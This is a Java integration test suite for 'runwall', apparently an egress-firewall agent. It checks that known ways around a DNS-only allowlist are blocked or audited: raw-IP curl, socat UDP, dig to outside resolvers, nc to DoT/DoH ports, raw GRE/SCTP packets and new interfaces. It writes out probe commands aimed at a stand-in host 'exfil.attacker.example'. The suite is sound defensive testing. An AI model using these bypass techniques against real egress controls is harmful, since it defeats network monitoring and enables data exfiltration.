package dev.runwall.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.runwall.core.event.ConnectionEvent;
import dev.runwall.core.event.DnsEvent;
import dev.runwall.core.event.Verdict;
import dev.runwall.core.report.Report;
import dev.runwall.sandbox.ExecResult;
import dev.runwall.sandbox.Sandbox;
import dev.runwall.sandbox.SandboxContainer;
import dev.runwall.sandbox.SandboxTestKit;
import dev.runwall.sandbox.Zone;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.function.Predicate;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.CleanupMode;
import org.junit.jupiter.api.io.TempDir;

/**
 * The ways around a DNS-only egress gate, one test each, against the real agent daemon in a sandbox.
 * {@link BypassBlockIT} runs them in block mode (each attempt fails and is reported {@code blocked}),
 * {@link BypassAuditIT} in audit mode (each succeeds and is reported {@code audited}). One sandbox and one
 * agent per class; every test asserts its connection event live, and after stop the report must hold every
 * one of them with the same address, port, protocol, path and verdict.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
abstract class BypassSuite {
    static final String ZONE = """
            hosts:
              - name: api.nuget.org
                ipv4: 198.18.1.10
                ipv6: fd52:7761:6c6c::10
                tcp: [80, 443]
              - name: exfil.attacker.example
                ipv4: 198.18.66.6
                ipv6: fd52:7761:6c6c::66:6
                tcp: [80, 443]
                udp: [9999]
              - name: cdn.other.example
                ipv4: 198.18.2.20
                tcp: [80]
              - name: short.example
                ipv4: 198.18.3.30
                tcp: [80]
                ttl: 2
            cnames:
              - name: assets.nuget.org
                target: cdn.other.example
            resolvers:
              - 198.18.8.8
              - fd52:7761:6c6c::8:8
            """;
    /** What block mode allows; audit mode gets it too (it only goes into the report there). */
    static final String ALLOWED = "api.nuget.org:443 assets.nuget.org:80 short.example:80";

    private Sandbox sandbox;
    private SandboxContainer container;
    private AgentSession agent;
    private Path out;
    private final List<ConnectionEvent> expected = new CopyOnWriteArrayList<>();

    /** block or audit. */
    abstract String mode();

    boolean blocking() {
        return mode().equals("block");
    }

    Verdict flowVerdict() {
        return blocking() ? Verdict.BLOCKED : Verdict.AUDITED;
    }

    @BeforeAll
    void startAgent(@TempDir(cleanup = CleanupMode.ON_SUCCESS) Path tempDir) throws Exception {
        sandbox = SandboxTestKit.up("byp" + mode().charAt(0), Zone.parse(ZONE, "bypass-zone.yml"));
        container = sandbox.addContainer("1");
        out = tempDir;
        // --min-address-ttl 1: the zone's 2 s TTL of short.example then decides, and the expiry test waits 4 s
        agent = AgentSession.start(sandbox, out.resolve("report"), "--egress-policy", mode(), "--allowed-endpoints",
                ALLOWED, "--min-address-ttl", "1", "--job", "bypass-" + mode());
        assertThat(AgentSession.tables(sandbox)).contains("table inet runwall", "table inet sandbox_nat");
    }

    @AfterAll
    void stopAgentAndCheckTheReport() throws Exception {
        try {
            if (agent == null) {
                return;
            }
            ExecResult stop = agent.stop();
            assertThat(stop.exitCode()).as(stop.describe()).isZero();
            assertThat(AgentSession.tables(sandbox)).doesNotContain("table inet runwall").contains("table inet sandbox_nat");
            Report report = agent.report();
            assertThat(report.job().egressPolicy()).isEqualTo(mode());
            AgentSession.assertReportHolds(report, expected);
            assertThat(report.loss().nflogLost()).isZero();
        } finally {
            if (sandbox != null) {
                AgentSession.forgetState(sandbox);
                sandbox.down();
            }
        }
    }

    private ExecResult runner(String... command) {
        return sandbox.exec(Duration.ofSeconds(20), command);
    }

    /** Asserts the flow's event (live, in the event log) and remembers it for the report check. */
    private ConnectionEvent flow(String ip, int port, String protocol, String path, Verdict verdict) throws Exception {
        return flow(ip, port, protocol, path, verdict, c -> true);
    }

    private ConnectionEvent flow(String ip, int port, String protocol, String path, Verdict verdict,
            Predicate<ConnectionEvent> also) throws Exception {
        ConnectionEvent e = agent.awaitConnection(protocol + " " + ip + ":" + port + " " + path + " " + verdict,
                c -> c.ip().equals(ip) && c.port() == port && c.protocol().equals(protocol) && c.path().equals(path)
                        && c.verdict() == verdict && also.test(c));
        expected.add(e);
        return e;
    }

    /** In block mode the attempt fails; in audit mode it works and returns what {@code succeeds} expects. */
    private void outcome(ExecResult r, Predicate<ExecResult> succeeded) {
        if (blocking()) {
            assertThat(succeeded.test(r)).as("the attempt must fail in block mode\n" + r.describe()).isFalse();
        } else {
            assertThat(succeeded.test(r)).as("the attempt must work in audit mode\n" + r.describe()).isTrue();
        }
    }

    private static Predicate<ExecResult> printed(String text) {
        return r -> r.exitCode() == 0 && r.stdout().contains(text);
    }

    @Test
    void tcpToARawIp() throws Exception {
        ExecResult r = runner("curl", "-sS", "--max-time", "5", "http://198.18.66.6/");
        outcome(r, printed("exfil.attacker.example"));
        if (blocking()) {
            assertThat(r.exitCode()).as("refused at once (TCP reset), not a timeout").isEqualTo(7);
        }
        ConnectionEvent e = flow("198.18.66.6", 80, "tcp", "output", flowVerdict());
        assertThat(e.domain()).isNull();
        assertThat(e.reason()).contains("no", "name resolved to this address");
    }

    @Test
    void udpToARawIp() throws Exception {
        long started = System.nanoTime();
        ExecResult r = runner("bash", "-c", "echo udp-probe | socat -T 5 - UDP:198.18.66.6:9999");
        long millis = (System.nanoTime() - started) / 1_000_000;
        outcome(r, printed("udp-probe"));
        if (blocking()) {
            // the reject rule refuses the datagram as it is sent (sendmsg fails with EPERM, and ICMP
            // administratively prohibited goes back): socat fails at once, not after its 5 s timeout
            assertThat(r.stderr()).as(r.describe()).contains("Operation not permitted");
            assertThat(millis).as("failed after %d ms", millis).isLessThan(2000);
        }
        flow("198.18.66.6", 9999, "udp", "output", flowVerdict());
    }

    @Test
    void dnsToAnotherResolverOverUdp() throws Exception {
        ExecResult r = runner("dig", "+time=2", "+tries=1", "@198.18.8.8", "udp.exfil.attacker.example");
        outcome(r, printed("status: NXDOMAIN")); // the sandbox resolver answers: the query got through
        ConnectionEvent e = flow("198.18.8.8", 53, "udp", "output", flowVerdict());
        assertThat(e.reason()).isEqualTo("DNS to a resolver other than the agent");
        assertThat(sandbox.queryLog().contains("udp.exfil.attacker.example")).as("the name reached the internet")
                .isEqualTo(!blocking());
    }

    @Test
    void dnsToAnotherResolverOverTcp() throws Exception {
        ExecResult r = runner("dig", "+tcp", "+time=2", "+tries=1", "@fd52:7761:6c6c::8:8", "tcp.exfil.attacker.example");
        outcome(r, printed("status: NXDOMAIN"));
        flow("fd52:7761:6c6c::8:8", 53, "tcp", "output", flowVerdict());
        assertThat(sandbox.queryLog().contains("tcp.exfil.attacker.example")).isEqualTo(!blocking());
    }

    @Test
    void dnsToTheRunnersOwnResolverWithoutRoot() throws Exception {
        // the agent forwards to this resolver itself, from root-owned sockets; a job without root may not
        ExecResult r = runner("setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups",
                "dig", "+time=2", "+tries=1", "@198.18.0.53", "nobody.exfil.attacker.example");
        outcome(r, printed("status: NXDOMAIN"));
        ConnectionEvent e = flow("198.18.0.53", 53, "udp", "output", flowVerdict());
        assertThat(e.reason()).isEqualTo("DNS to a resolver other than the agent");
        assertThat(sandbox.queryLog().contains("nobody.exfil.attacker.example")).isEqualTo(!blocking());
    }

    @Test
    void dnsOverTlsToARawIp() throws Exception {
        ExecResult r = runner("bash", "-c", "nc -w 2 198.18.8.8 853 </dev/null");
        outcome(r, printed("DNS-over-TLS stand-in"));
        flow("198.18.8.8", 853, "tcp", "output", flowVerdict());
    }

    @Test
    void dnsOverHttpsToARawIp() throws Exception {
        ExecResult r = runner("bash", "-c", "nc -w 2 198.18.8.8 443 </dev/null");
        outcome(r, printed("DNS-over-HTTPS stand-in"));
        flow("198.18.8.8", 443, "tcp", "output", flowVerdict());
    }

    @Test
    void ipv6ToARawAddress() throws Exception {
        ExecResult r = runner("curl", "-sS", "--max-time", "5", "-g", "http://[fd52:7761:6c6c::66:6]/");
        outcome(r, printed("exfil.attacker.example"));
        flow("fd52:7761:6c6c::66:6", 80, "tcp", "output", flowVerdict());
    }

    @Test
    void icmp() throws Exception {
        ExecResult v4 = runner("ping", "-c", "1", "-W", "2", "198.18.66.6");
        outcome(v4, r -> r.exitCode() == 0);
        flow("198.18.66.6", 0, "icmp", "output", flowVerdict());
        ExecResult v6 = runner("ping", "-c", "1", "-W", "2", "fd52:7761:6c6c::66:6");
        outcome(v6, r -> r.exitCode() == 0);
        flow("fd52:7761:6c6c::66:6", 0, "icmpv6", "output", flowVerdict());
        if (blocking()) {
            // refused with ICMP administratively prohibited (ping's words for it), not left to time out
            assertThat(v4.stdout()).as(v4.describe()).contains("Packet filtered");
            assertThat(v6.stdout()).as(v6.describe()).contains("Administratively prohibited");
        }
    }

    @Test
    void dnsToALocalStubResolverOnLoopback() throws Exception {
        // a stub like systemd-resolved's on 127.0.0.53 that forwards to the runner's resolver
        Process stub = sandbox.processBuilder("socat", "UDP4-RECVFROM:53,bind=127.0.0.53,fork",
                "UDP4-SENDTO:198.18.0.53:53").redirectErrorStream(true).start();
        try {
            awaitUdpListener("127.0.0.53:53", stub);
            ExecResult r = runner("dig", "+time=2", "+tries=1", "@127.0.0.53", "stub.exfil.attacker.example");
            outcome(r, printed("status: NXDOMAIN"));
            ConnectionEvent e = flow("127.0.0.53", 53, "udp", "output", flowVerdict());
            assertThat(e.reason()).isEqualTo("DNS to a resolver other than the agent");
            assertThat(sandbox.queryLog().contains("stub.exfil.attacker.example")).as("the name reached the internet")
                    .isEqualTo(!blocking());
        } finally {
            List<ProcessHandle> children = stub.toHandle().descendants().toList();
            stub.destroyForcibly().waitFor();
            children.forEach(ProcessHandle::destroyForcibly);
        }
    }

    private void awaitUdpListener(String address, Process listener) throws Exception {
        long deadline = System.nanoTime() + Duration.ofSeconds(5).toNanos();
        while (!runner("ss", "-Hlun").stdout().contains(address + " ")) {
            assertThat(listener.isAlive()).as("the listener on " + address + " runs").isTrue();
            assertThat(System.nanoTime()).as("a listener on " + address + " within 5 s").isLessThan(deadline);
            Thread.sleep(20);
        }
    }

    @Test
    void otherIpProtocols() throws Exception {
        // GRE (47) and a well-formed SCTP INIT (132), from raw sockets: no rule lists them, the default decides
        ExecResult gre = runner("bash", "-c", "echo gre | socat -u - IP4-SENDTO:198.18.66.6:47");
        outcome(gre, r -> r.exitCode() == 0);
        flow("198.18.66.6", 0, "47", "output", flowVerdict());
        ExecResult sctp = runner("bash", "-c", "printf '" + sctpInit() + "' | socat -u - IP6-SENDTO:[fd52:7761:6c6c::66:6]:132");
        outcome(sctp, r -> r.exitCode() == 0);
        flow("fd52:7761:6c6c::66:6", 0, "132", "output", flowVerdict());
        if (blocking()) {
            assertThat(gre.stderr()).as(gre.describe()).contains("Operation not permitted");
            assertThat(sctp.stderr()).as(sctp.describe()).contains("Operation not permitted");
        }
    }

    /**
     * An SCTP INIT chunk (RFC 9260 3.3.2) from port 40000 to 9999, as {@code printf} escapes. Conntrack
     * tracks it as a new flow; a malformed one would be invalid, which block mode drops without logging.
     */
    private static String sctpInit() {
        java.nio.ByteBuffer p = java.nio.ByteBuffer.allocate(32);
        p.putShort((short) 40000).putShort((short) 9999).putInt(0).putInt(0); // ports, verification tag 0, checksum
        p.put((byte) 1).put((byte) 0).putShort((short) 20); // INIT, flags, chunk length
        p.putInt(0x11223344).putInt(65535).putShort((short) 1).putShort((short) 1).putInt(1); // tag, a_rwnd, streams, TSN
        java.util.zip.CRC32C crc = new java.util.zip.CRC32C();
        crc.update(p.array());
        p.order(java.nio.ByteOrder.LITTLE_ENDIAN).putInt(8, (int) crc.getValue());
        StringBuilder escaped = new StringBuilder();
        for (byte b : p.array()) {
            escaped.append(String.format("\\x%02x", b & 0xff));
        }
        return escaped.toString();
    }

    @Test
    void anInterfaceCreatedAfterTheAgentStarted() throws Exception {
        // a second link to the internet, made now: a veth whose far end is in the internet namespace
        String internet = sandbox.internetNamespace();
        runner("ip", "link", "add", "late0", "type", "veth", "peer", "name", "late1", "netns", internet).requireSuccess();
        try {
            runner("ip", "-n", internet, "addr", "add", "198.18.77.1/30", "dev", "late1").requireSuccess();
            runner("ip", "-n", internet, "-6", "addr", "add", "fd52:7761:6c6c:77::1/64", "dev", "late1", "nodad")
                    .requireSuccess();
            runner("ip", "-n", internet, "link", "set", "late1", "up").requireSuccess();
            runner("ip", "addr", "add", "198.18.77.2/30", "dev", "late0").requireSuccess();
            runner("ip", "-6", "addr", "add", "fd52:7761:6c6c:77::2/64", "dev", "late0", "nodad").requireSuccess();
            runner("ip", "link", "set", "late0", "up").requireSuccess();
            assertThat(runner("ip", "route", "get", "198.18.77.1").requireSuccess().stdout()).contains("dev late0");
            assertThat(runner("ip", "-6", "route", "get", "fd52:7761:6c6c:77::1").requireSuccess().stdout())
                    .contains("dev late0");

            outcome(runner("ping", "-c", "1", "-W", "2", "198.18.77.1"), r -> r.exitCode() == 0);
            flow("198.18.77.1", 0, "icmp", "output", flowVerdict());
            outcome(runner("ping", "-c", "1", "-W", "2", "fd52:7761:6c6c:77::1"), r -> r.exitCode() == 0);
            flow("fd52:7761:6c6c:77::1", 0, "icmpv6", "output", flowVerdict());
        } finally {
            runner("ip", "link", "del", "late0"); // takes its peer with it
        }
    }

    @Test
    void fromAContainer() throws Exception {
        ExecResult r = container.exec(Duration.ofSeconds(20), "curl", "-sS", "--max-time", "5", "http://198.18.66.6/");
        outcome(r, printed("exfil.attacker.example"));
        flow("198.18.66.6", 80, "tcp", "forward", flowVerdict());
        ExecResult dnsElsewhere = container.exec(Duration.ofSeconds(20), "dig", "+time=2", "+tries=1", "@198.18.8.8",
                "container.exfil.attacker.example");
        outcome(dnsElsewhere, printed("status: NXDOMAIN"));
        flow("198.18.8.8", 53, "udp", "forward", flowVerdict());
        // the container's resolver is the agent on the bridge gateway; an allowed name works in both modes
        ExecResult allowed = container.exec(Duration.ofSeconds(20), "curl", "-4", "-sS", "--max-time", "5",
                "http://api.nuget.org:443/");
        assertThat(allowed.exitCode()).as(allowed.describe()).isZero();
        assertThat(allowed.stdout()).isEqualTo("api.nuget.org\n");
        ConnectionEvent e = flow("198.18.1.10", 443, "tcp", "forward", blocking() ? Verdict.ALLOWED : Verdict.AUDITED);
        assertThat(e.domain()).isEqualTo("api.nuget.org");
    }

    @Test
    void directLookupOfTheCnameTargetOfAnAllowedName() throws Exception {
        // before anything resolved the allowed name, the target's address is allowed to nobody
        ExecResult raw = runner("curl", "-sS", "--max-time", "5", "http://198.18.2.20/");
        outcome(raw, printed("cdn.other.example"));
        if (blocking()) {
            assertThat(raw.exitCode()).as("refused at once (TCP reset), not a timeout").isEqualTo(7);
        }
        assertThat(flow("198.18.2.20", 80, "tcp", "output", flowVerdict()).domain()).isNull();

        ExecResult direct = runner("dig", "+time=2", "+tries=1", "cdn.other.example");
        outcome(direct, printed("status: NOERROR"));
        ExecResult byOwnName = runner("curl", "-sS", "--max-time", "5", "http://cdn.other.example/");
        outcome(byOwnName, printed("cdn.other.example"));
        // a writer thread appends DNS events after the answers: wait for the dig's A and curl's AAAA question
        agent.awaitDns("A cdn.other.example", d -> d.domain().equals("cdn.other.example") && d.qtype().equals("A"));
        agent.awaitDns("AAAA cdn.other.example", d -> d.domain().equals("cdn.other.example") && d.qtype().equals("AAAA"));
        List<DnsEvent> lookups = agent.events().stream().filter(DnsEvent.class::isInstance).map(DnsEvent.class::cast)
                .filter(d -> d.domain().equals("cdn.other.example")).toList();
        assertThat(lookups).allSatisfy(d -> {
            assertThat(d.verdict()).isEqualTo(blocking() ? Verdict.BLOCKED : Verdict.AUDITED);
            assertThat(d.rcode()).isEqualTo(blocking() ? "NXDOMAIN" : "NOERROR");
        });
        // reachable through the allowed name, in both modes
        ExecResult through = runner("curl", "-sS", "--max-time", "5", "http://assets.nuget.org/");
        assertThat(through.exitCode()).as(through.describe()).isZero();
        assertThat(through.stdout()).isEqualTo("cdn.other.example\n");
        // audit mode also saw the flow by the target's own name; this one came through the allowed name
        flow("198.18.2.20", 80, "tcp", "output", blocking() ? Verdict.ALLOWED : Verdict.AUDITED,
                c -> "assets.nuget.org".equals(c.domain()));
    }

    @Test
    void anAllowedNameOverIpv6() throws Exception {
        // the AAAA answer fills the IPv6 part of the allowed set; the kernel must let exactly that through
        ExecResult r = runner("curl", "-6", "-sS", "--max-time", "5", "http://api.nuget.org:443/");
        assertThat(r.exitCode()).as(r.describe()).isZero();
        assertThat(r.stdout()).isEqualTo("api.nuget.org\n");
        ConnectionEvent allowed = flow("fd52:7761:6c6c::10", 443, "tcp", "output",
                blocking() ? Verdict.ALLOWED : Verdict.AUDITED);
        assertThat(allowed.domain()).isEqualTo("api.nuget.org");
        // the same AAAA on a port the policy does not give the name
        ExecResult otherPort = runner("curl", "-6", "-sS", "--max-time", "5", "http://api.nuget.org:80/");
        outcome(otherPort, printed("api.nuget.org"));
        ConnectionEvent e = flow("fd52:7761:6c6c::10", 80, "tcp", "output", flowVerdict());
        assertThat(e.domain()).isEqualTo("api.nuget.org");
        if (blocking()) {
            assertThat(otherPort.exitCode()).as("refused at once (TCP reset)").isEqualTo(7);
            assertThat(e.reason()).isEqualTo("port 80 is not allowed for api.nuget.org (allowed: 443)");
        }
    }

    @Test
    void allowedNameOnAPortThatIsNotAllowed() throws Exception {
        ExecResult allowed = runner("curl", "-4", "-sS", "--max-time", "5", "http://api.nuget.org:443/");
        assertThat(allowed.exitCode()).as(allowed.describe()).isZero();
        ExecResult r = runner("curl", "-4", "-sS", "--max-time", "5", "http://api.nuget.org:80/");
        outcome(r, printed("api.nuget.org"));
        ConnectionEvent e = flow("198.18.1.10", 80, "tcp", "output", flowVerdict());
        assertThat(e.domain()).isEqualTo("api.nuget.org");
        if (blocking()) {
            assertThat(e.reason()).isEqualTo("port 80 is not allowed for api.nuget.org (allowed: 443)");
        }
    }

    @Test
    void connectionAfterTheAllowedAddressTimedOut() throws Exception {
        ExecResult first = runner("curl", "-4", "-sS", "--max-time", "5", "http://short.example/");
        assertThat(first.exitCode()).as(first.describe()).isZero();
        Thread.sleep(4000); // the zone's TTL is 2 s, and --min-address-ttl 1
        ExecResult stale = runner("curl", "-sS", "--max-time", "5", "http://198.18.3.30/");
        outcome(stale, printed("short.example"));
        ConnectionEvent e = flow("198.18.3.30", 80, "tcp", "output", flowVerdict());
        assertThat(e.domain()).isEqualTo("short.example");
        if (blocking()) {
            assertThat(e.reason()).contains("the allowance from short.example ran out", "resolve the name again");
        }
        ExecResult again = runner("curl", "-4", "-sS", "--max-time", "5", "http://short.example/");
        assertThat(again.exitCode()).as("resolving again allows it again\n" + again.describe()).isZero();
        Verdict later = blocking() ? Verdict.ALLOWED : Verdict.AUDITED;
        agent.awaitConnection("the flow after resolving again", c -> c.ip().equals("198.18.3.30")
                && c.verdict() == later && c.time().isAfter(e.time()) && "short.example".equals(c.domain()));
    }

    @Test
    void statusSaysTheModeAndSinceWhen() {
        ExecResult r = AgentSession.runwall(sandbox, "agent", "status");
        assertThat(r.exitCode()).as(r.describe()).isZero();
        assertThat(r.stdout()).contains("running: " + mode() + " mode", "enforced since 20", "table inet runwall");
        assertThat(AgentSession.status(sandbox).enforcingSince()).isNotNull();
    }
}
